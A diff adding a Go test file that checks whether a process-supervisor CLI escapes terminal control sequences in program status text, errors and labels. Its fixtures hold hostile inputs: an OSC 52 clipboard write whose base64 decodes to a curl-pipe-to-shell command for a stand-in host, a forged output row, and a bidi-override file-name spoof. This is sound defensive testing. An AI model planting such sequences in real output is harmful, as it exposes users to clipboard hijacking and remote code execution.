@@ -1,0 +1,117 @@
+package cli
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+	"unicode/utf8"
+
+	"github.com/tend-sh/tend/internal/program"
+)
+
+// What a hostile program can put in its status: an OSC 52 clipboard write
+// and a title in its STATUS= text, a why with a C1 CSI and a newline that
+// forges a row, a command line set with exec -a, a label reversing the
+// line.
+const (
+	osc52    = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\a"
+	oscTitle = "\x1b]0;all good\x1b\\"
+)
+
+func hostileStatus() program.Status {
+	return program.Status{
+		ID: "evil:0", Program: "evil", State: "running", Lifecycle: "running", PID: intp(77), Ready: true,
+		Why:        "up 5s \u009b2J\nfake:0     running  running",
+		StatusText: "ok " + osc52 + oscTitle,
+		Labels:     map[string]string{"task": "\u202egnp.exe"},
+		Processes:  []program.Process{{PID: 77, PPID: 1, PGID: 77, State: "S", Cmd: osc52 + " \u009b31m"}},
+		Tracking:   "group",
+	}
+}
+
+// TestHumanOutputEscapesControls: ps, status and events print a program's
+// text with its controls escaped; --json keeps it exact.
+func TestHumanOutputEscapesControls(t *testing.T) {
+	d := startDaemon(t)
+	st := hostileStatus()
+	d.b.Put(st)
+	t.Setenv("COLUMNS", "300")
+	d.ev.Publish(program.KindStatusChanged, st.ID, st)
+	d.ev.Publish(program.KindSpawnFailed, st.ID, program.SpawnFailed{Error: "exec \x1b[2J: no"})
+
+	for _, args := range [][]string{{"ps"}, {"ps", "--show-labels"}, {"status", "evil:0"}, {"status", "all"}, {"events"}} {
+		r := d.tend(t, args...)
+		if r.code != 0 {
+			t.Fatalf("%v: exit %d: %s", args, r.code, r.stderr)
+		}
+		wantNoControls(t, args, r.stdout)
+		if !strings.Contains(r.stdout, `\u009b2J\nfake:0`) {
+			t.Errorf("%v: the why is not escaped:\n%s", args, r.stdout)
+		}
+	}
+	ps := d.tend(t, "ps", "--show-labels").stdout
+	if lines := strings.Split(strings.TrimSuffix(ps, "\n"), "\n"); len(lines) != 2 || !strings.Contains(lines[1], `task=\u202egnp.exe`) {
+		t.Errorf("ps --show-labels: a forged row or an unescaped label:\n%s", ps)
+	}
+	status := d.tend(t, "status", "evil:0").stdout
+	for _, want := range []string{
+		`status text: ok \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;all good\x1b\`,
+		`labels:      task=\u202egnp.exe`,
+		`\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \u009b31m`,
+	} {
+		if !strings.Contains(status, want) {
+			t.Errorf("status lacks %q:\n%s", want, status)
+		}
+	}
+	if ev := d.tend(t, "events").stdout; !strings.Contains(ev, `error="exec \x1b[2J: no"`) {
+		t.Errorf("events:\n%s", ev)
+	}
+
+	// JSON keeps the text exactly.
+	var one program.Status
+	if err := json.Unmarshal([]byte(d.tend(t, "status", "evil:0", "--json").stdout), &one); err != nil {
+		t.Fatal(err)
+	}
+	var list []program.Status
+	if err := json.Unmarshal([]byte(d.tend(t, "ps", "--json").stdout), &list); err != nil || len(list) != 1 {
+		t.Fatalf("ps --json: %v %v", err, list)
+	}
+	for _, got := range []program.Status{one, list[0]} {
+		if got.StatusText != st.StatusText || got.Why != st.Why || got.Labels["task"] != st.Labels["task"] || got.Processes[0].Cmd != st.Processes[0].Cmd {
+			t.Errorf("JSON changed the text: %q %q %q %q", got.StatusText, got.Why, got.Labels, got.Processes[0].Cmd)
+		}
+	}
+	var evs []program.Event
+	if err := json.Unmarshal([]byte(d.tend(t, "events", "--json").stdout), &evs); err != nil || len(evs) != 2 {
+		t.Fatalf("events --json: %v", err)
+	}
+}
+
+// TestErrorsEscapeControls: an error that quotes a program's why (an
+// action that failed) is printed escaped too.
+func TestErrorsEscapeControls(t *testing.T) {
+	err := actFailed{failed: []program.ActFailure{{ID: "evil:0", Why: "gave up " + osc52}}}
+	var out strings.Builder
+	e := &env{stderr: &out}
+	e.ran = true
+	e.report(nil, err)
+	wantNoControls(t, []string{"stderr"}, out.String())
+	if want := `tend: evil:0: gave up \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07` + "\n"; out.String() != want {
+		t.Errorf("stderr = %q, want %q", out.String(), want)
+	}
+}
+
+// wantNoControls fails on a control a terminal acts on in out: a C0
+// other than newline and tab, DEL, a C1 (raw or UTF-8), a bidi override.
+func wantNoControls(t *testing.T, what []string, out string) {
+	t.Helper()
+	if !utf8.ValidString(out) {
+		t.Errorf("%v: not UTF-8: %q", what, out)
+	}
+	for _, r := range out {
+		if r < 0x20 && r != '\n' && r != '\t' || r >= 0x7f && r <= 0x9f || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 {
+			t.Errorf("%v: %U printed raw:\n%q", what, r, out)
+			return
+		}
+	}
+}
